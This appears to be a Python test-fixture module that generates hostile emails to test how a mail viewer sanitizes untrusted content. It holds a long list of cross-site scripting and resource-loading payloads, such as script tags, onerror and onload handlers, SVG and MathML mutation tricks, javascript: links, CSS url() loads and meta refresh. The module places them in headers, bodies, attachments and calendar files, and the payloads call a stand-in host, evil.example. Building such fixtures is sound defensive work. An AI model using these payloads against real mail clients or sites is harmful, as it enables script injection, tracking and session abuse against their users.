"""Mails that try to run a script, to load something or to leave their place, from every corner of a mail."""

import base64
from collections.abc import Iterator, Sequence

EVIL = "https://evil.example"
RUN = f"window.pwned=1;top.pwned=1;fetch('{EVIL}/fetched')"
OUT = "</pre></article></main></title></textarea></script></style></template><b class=broken-out>out</b>"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<script src={EVIL}/a.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={EVIL}/pixel.gif>",
    f"<img srcset='{EVIL}/set.gif 1x' src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>",
    f"<picture><source srcset={EVIL}/source.gif><img></picture>",
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f"<svg><use href='{EVIL}/x.svg#a'/><image href='{EVIL}/i.png'/><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f"<math href='javascript:{RUN}'>click</math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f"<style>@import '{EVIL}/a.css'; body {{ background: url({EVIL}/b.png) }}</style>",
    f"<link rel=stylesheet href={EVIL}/l.css><link rel=preload as=image href={EVIL}/p.png><link rel=dns-prefetch href=//evil.example>",
    f"<p style=\"background:url('{EVIL}/s.png');list-style:url({EVIL}/t.png);content:url({EVIL}/c)\">x</p>",
    f'<p style="background:u\\72l({EVIL}/esc.png)">x</p>',
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>over</div>",
    f"<iframe src={EVIL}/frame></iframe><object data={EVIL}/o></object><embed src={EVIL}/e>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'><base href={EVIL}/>",
    f"<meta http-equiv=Content-Security-Policy content='script-src *'><script>{RUN}</script>",
    f'<form action={EVIL}/post method=post><input name=x autofocus onfocus="{RUN}"><button>go</button></form>',
    f'<video src={EVIL}/v poster={EVIL}/poster autoplay onloadstart="{RUN}"></video><audio src={EVIL}/a autoplay></audio>',
    f"<a href='javascript:{RUN}'>click</a><a href='\x01javascript:{RUN}'>click</a><a href='jAvA&#9;script:{RUN}'>c</a>",
    f"<a href='data:text/html,<script>{RUN}</script>' ping={EVIL}/ping>x</a>",
    f'<details open ontoggle="{RUN}">x</details><marquee onstart="{RUN}">x</marquee>',
    f'<body background={EVIL}/bg.png onload="{RUN}"><table background={EVIL}/t.png><tr><td background={EVIL}/td.png>x',
    f"<template><script>{RUN}</script></template><xmp><script>{RUN}</script></xmp>",
    f"<a id=location href=x></a><form name=body><input name=firstChild></form><img name=pwned><script>{RUN}</script>",
    f"<input type=image src={EVIL}/input.png><button formaction='javascript:{RUN}'>x</button>",
    "<a href='/app/sign-out'>out</a><img src=/app/sign-out><img src='//evil.example/rel'>",
    f"{{{{7*7}}}}{{% raw %}}${{7*7}}<%= 7*7 %><script>{RUN}</script>",
    f"<div hx-get='{EVIL}/hx' hx-trigger='load' data-hx-get='{EVIL}/dhx' data-hx-trigger=load>x</div>",
    f"<div hx-ws:connect='wss://evil.example/ws' hx-on:click='{RUN}' hx-on::load='{RUN}'>x</div>",
    OUT + f"<script>{RUN}</script>",
    f"<!--><script>{RUN}</script>--><![CDATA[<script>{RUN}</script>]]>",
    "<div>" * 5000 + f"<img src=x onerror={RUN}>",
]
WORDS = [
    f"<script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    OUT,
    f"javascript:{RUN}",
    "{{7*7}}{% include 'x' %}",
    f'" autofocus onfocus={RUN} x="',
    "\u202egnp.exe\u202c <b class=broken-out>x</b>",
]
FIELDS = (
    *("Subject", "From", "To", "Cc", "Reply-To", "X-Custom", "Message-ID", "Date", "List-Unsubscribe"),
    *("Content-Type", "X-Mailer", "Sender"),
)


def letter(number: int, body: bytes, content_type: str, **fields: str) -> bytes:
    given = {
        "From": f"Mallory <mallory{number}@evil.example>",
        "To": "hostile@postroom.localhost",
        "Subject": f"Hostile {number}",
        "Message-ID": f"<hostile.{number}@evil.example>",
        "Content-Type": content_type,
        "MIME-Version": "1.0",
    } | {name.replace("_", "-"): value for name, value in fields.items()}
    head = "".join(f"{name}: {value}\r\n" for name, value in given.items())
    return head.encode() + b"\r\n" + body


def with_file(number: int, name: str, content_type: str, content: bytes) -> bytes:
    quoted = name.replace("\\", "\\\\").replace('"', '\\"')
    parts = [
        b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nA file.\r\n",
        f"--b\r\nContent-Type: {content_type}\r\nContent-Disposition: attachment;"
        f' filename="{quoted}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'.encode(),
        base64.encodebytes(content).replace(b"\n", b"\r\n") + b"--b--\r\n",
    ]
    return letter(number, b"".join(parts), "multipart/mixed; boundary=b")


def calendar(words: str) -> bytes:
    lines = ["BEGIN:VCALENDAR", "BEGIN:VEVENT", f"SUMMARY:{words}", f"URL:javascript:{RUN}"]
    return "\r\n".join([*lines, f"DESCRIPTION:{words}", "END:VEVENT", "END:VCALENDAR", ""]).encode()


def in_threads(mails: Sequence[bytes], size: int) -> Iterator[bytes]:
    """The same mails, so many in each thread, behind a first one that is harmless."""
    for start in range(0, len(mails), size):
        head = f"<thread.{start}@evil.example>"
        yield letter(start, b"Hello", "text/plain", **{"Message-ID": head, "Subject": f"Thread {start}"})
        yield from (f"References: {head}\r\n".encode() + mail for mail in mails[start : start + size])


def from_every_header() -> Iterator[bytes]:
    """Each in a thread of its own, whose row in the list shows it."""
    places = [(words, field) for words in WORDS for field in FIELDS]
    for number, (words, field) in enumerate(places, 1000):
        yield letter(number, b"Hello", "text/plain; charset=utf-8", **{field: words})


def from_every_body() -> Iterator[bytes]:
    number = 0
    html, plain = "text/html; charset=utf-8", "text/plain; charset=utf-8"
    for script in SCRIPTS:
        for before, after in (
            ("", ""),
            ("<p title='", "'>x</p>"),
            ("<table><tr><td>", "</td>"),
            ("<!--", "-->x"),
        ):
            number += 1
            yield letter(number, f"{before}{script}{after}".encode(), html)
        number += 1
        yield letter(number, script.encode(), plain)
        number += 1
        yield with_file(number, "page.html", "text/html", script.encode())
    for words in WORDS:
        for content_type in ("text/html", "image/svg+xml", "text/calendar", "application/pdf"):
            number += 1
            yield with_file(number, f"{words}.html".replace("/", ""), content_type, calendar(words))
        number += 1
        yield letter(number, calendar(words), "text/calendar; charset=utf-8; method=REQUEST")
        number += 1
        yield letter(number, f"See https://evil.example/{words} and {words}".encode(), plain)
